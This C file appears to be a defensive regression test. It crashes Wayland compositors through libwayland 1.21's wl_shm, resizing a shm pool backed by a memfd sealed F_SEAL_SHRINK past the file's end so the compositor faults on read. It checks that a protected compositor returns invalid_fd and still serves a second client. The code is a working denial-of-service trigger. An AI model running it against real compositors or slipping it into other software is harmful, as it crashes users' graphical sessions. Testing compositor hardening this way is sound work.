/* SPDX-License-Identifier: MIT */
/*
 * Copyright © 2026 the sealshm authors
 *
 * attack-sealed-resize: the one attack that kills libwayland 1.21's wl_shm
 * without a SIGBUS handler to catch it, done once and deterministically.
 *
 * A 4 KiB memfd sealed F_SEAL_SHRINK makes libwayland decide at
 * create_pool that SIGBUS is impossible for the pool, and it never checks
 * again: a resize to 1 MiB without growing the file maps pages past its
 * end, and a buffer there, attached and committed on a mapped toplevel,
 * faults when the compositor reads it.  A protected compositor must end
 * this connection with an invalid_fd error and then serve a second client.
 *
 * Exit status: 0 the attack got invalid_fd and a second client was served;
 * 1 any other outcome (printed); 3 the compositor went away.
 */

#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <wayland-client.h>

#include "demo-client.h"

#define EXIT_UNEXPECTED 1
#define EXIT_COMPOSITOR_GONE 3

#define FILE_SIZE 4096
#define RESIZED (1 << 20)
#define SIZE 64

static void
handle_done(void *data, struct wl_callback *callback, uint32_t time)
{
	*(bool *)data = true;
	wl_callback_destroy(callback);
}

static const struct wl_callback_listener done_listener = {
	.done = handle_done,
};

/* A memfd of @p size bytes, sealed F_SEAL_SHRINK, filled with @p pixel. */
static int
sealed_memfd(size_t size, uint32_t pixel)
{
	int fd = memfd_create("attack-sealed-resize",
			      MFD_CLOEXEC | MFD_ALLOW_SEALING);
	uint32_t *p;
	size_t i;

	if (fd < 0 || ftruncate(fd, (off_t)size) < 0 ||
	    fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK) < 0) {
		perror("attack-sealed-resize: sealed memfd");
		exit(EXIT_UNEXPECTED);
	}
	p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED) {
		perror("attack-sealed-resize: mmap");
		exit(EXIT_UNEXPECTED);
	}
	for (i = 0; i < size / 4; i++)
		p[i] = pixel;
	munmap(p, size);
	return fd;
}

/* Commit @p buffer with a frame callback; true once the frame is done,
 * false when the connection ended first. */
static bool
commit_and_wait(struct demo_globals *g, struct demo_toplevel *t,
		struct wl_buffer *buffer, int32_t width, int32_t height)
{
	struct wl_callback *callback;
	bool done = false;

	wl_surface_attach(t->surface, buffer, 0, 0);
	wl_surface_damage(t->surface, 0, 0, width, height);
	callback = wl_surface_frame(t->surface);
	wl_callback_add_listener(callback, &done_listener, &done);
	wl_surface_commit(t->surface);
	while (!done) {
		if (wl_display_dispatch(g->display) < 0) {
			/* It never fires now: free the proxy. */
			wl_callback_destroy(callback);
			return false;
		}
	}
	return wl_display_roundtrip(g->display) >= 0;
}

/* Connect and map a toplevel with one valid buffer; exits on failure. */
static struct wl_buffer *
connect_mapped(struct demo_globals *g, struct demo_toplevel *t,
	       const char *title)
{
	struct wl_shm_pool *pool;
	struct wl_buffer *buffer;
	int fd;

	if (demo_globals_connect(g, 4) < 0) {
		fprintf(stderr,
			"attack-sealed-resize: %s: cannot connect: %s\n", title,
			strerror(errno));
		exit(EXIT_COMPOSITOR_GONE);
	}
	if (!g->compositor || !g->shm || !g->wm_base) {
		fprintf(stderr, "attack-sealed-resize: no wl_compositor 4, "
				"wl_shm or xdg_wm_base\n");
		exit(EXIT_UNEXPECTED);
	}
	demo_toplevel_init(t, g, title, NULL, NULL, NULL);
	wl_surface_commit(t->surface);
	while (!t->configured) {
		if (wl_display_dispatch(g->display) < 0) {
			fprintf(stderr,
				"attack-sealed-resize: %s: no "
				"configure\n",
				title);
			exit(EXIT_COMPOSITOR_GONE);
		}
	}
	fd = sealed_memfd(SIZE * SIZE * 4, 0xff3060c0);
	pool = wl_shm_create_pool(g->shm, fd, SIZE * SIZE * 4);
	buffer = wl_shm_pool_create_buffer(pool, 0, SIZE, SIZE, SIZE * 4,
					   WL_SHM_FORMAT_XRGB8888);
	wl_shm_pool_destroy(pool);
	close(fd);
	if (!commit_and_wait(g, t, buffer, SIZE, SIZE)) {
		fprintf(stderr,
			"attack-sealed-resize: %s: a valid buffer "
			"was not displayed\n",
			title);
		exit(EXIT_UNEXPECTED);
	}
	return buffer;
}

int
main(void)
{
	const struct wl_interface *interface = NULL;
	struct demo_globals g;
	struct demo_toplevel t;
	struct wl_buffer *base, *buffer;
	struct wl_shm_pool *pool;
	int fd, err;
	uint32_t code;

	base = connect_mapped(&g, &t, "attack-sealed-resize");

	/* The pool claims 1 MiB of a 4 KiB file; the buffer lies wholly
	 * past the file's end. */
	fd = sealed_memfd(FILE_SIZE, 0xffc03030);
	pool = wl_shm_create_pool(g.shm, fd, FILE_SIZE);
	close(fd);
	wl_shm_pool_resize(pool, RESIZED);
	buffer = wl_shm_pool_create_buffer(pool, RESIZED / 2, 256, 256, 256 * 4,
					   WL_SHM_FORMAT_XRGB8888);
	printf("attack-sealed-resize: pool of a %d-byte file sealed "
	       "F_SEAL_SHRINK resized to %d bytes, buffer at %d committed\n",
	       FILE_SIZE, RESIZED, RESIZED / 2);
	fflush(stdout);
	if (commit_and_wait(&g, &t, buffer, 256, 256)) {
		fprintf(stderr, "attack-sealed-resize: UNEXPECTED: the "
				"buffer past the file's end was accepted\n");
		return EXIT_UNEXPECTED;
	}
	err = wl_display_get_error(g.display);
	if (err != EPROTO) {
		fprintf(stderr,
			"attack-sealed-resize: the compositor closed the "
			"connection without a protocol error (%s): it died\n",
			strerror(err));
		return EXIT_COMPOSITOR_GONE;
	}
	code = wl_display_get_protocol_error(g.display, &interface, NULL);
	printf("attack-sealed-resize: protocol error %u on %s\n", code,
	       interface ? interface->name : "?");
	if (code != WL_SHM_ERROR_INVALID_FD) {
		fprintf(stderr,
			"attack-sealed-resize: UNEXPECTED: error %u, "
			"not invalid_fd (2)\n",
			code);
		return EXIT_UNEXPECTED;
	}
	wl_buffer_destroy(buffer);
	wl_shm_pool_destroy(pool);
	wl_buffer_destroy(base);
	demo_toplevel_finish(&t);
	demo_globals_finish(&g);

	/* The compositor must still serve others. */
	base = connect_mapped(&g, &t, "attack-sealed-resize second client");
	printf("attack-sealed-resize: a second client was served\n");
	wl_buffer_destroy(base);
	demo_toplevel_finish(&t);
	demo_globals_finish(&g);
	return EXIT_SUCCESS;
}
